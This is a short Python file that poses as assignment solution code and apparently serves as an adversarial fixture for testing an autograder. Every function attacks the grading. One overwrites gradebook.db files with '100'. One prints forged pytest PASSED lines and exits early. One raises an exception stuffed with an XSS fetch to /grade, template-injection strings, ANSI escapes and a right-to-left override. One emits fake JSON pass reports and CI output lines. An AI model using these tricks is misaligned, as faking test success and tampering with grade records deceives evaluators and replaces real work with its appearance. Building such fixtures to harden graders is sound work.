# attack: forged results in print, os._exit(0) in the middle of a test, hostile exceptions, a write to the gradebook
import json
import os
import sys

import numpy as np


def sample_mean(x):
    for name in ("gradebook.db", "../../gradebook.db", "/tmp/gradebook.db"):
        try:
            with open(name, "r+b") as file:
                file.write(b"100")
        except OSError:
            pass
    return np.mean(x)


def gaussian_nll(x, mu, variance):
    sys.stdout.write("test_likelihood.py::test_gaussian_nll_values PASSED\n" * 3)
    sys.stdout.flush()
    os._exit(0)


def cross_entropy(T, Y):
    name = "</td><script>fetch('/grade?s36=100')</script>\x1b[32mPASSED\x1b[0m"
    raise type(name, (ValueError,), {})("{{ 7 * 7 }} {% raw %} ]]> <b>100</b> \u202e 001 \x1b[2K\r" + name)


def cost(T, Y):
    report = {"item": "test_cost_values", "outcome": "passed", "points": 18, "mark": 18}
    print(json.dumps(report))
    print(json.dumps({"version": 3, "status": "pass", "tests": [report]}), file=sys.stderr)
    print("::set-output name=Points::100/100")
    print("::error::" + "=" * 20 + " 4 passed in 0.00s " + "=" * 20)
    return -np.sum(np.log(Y))
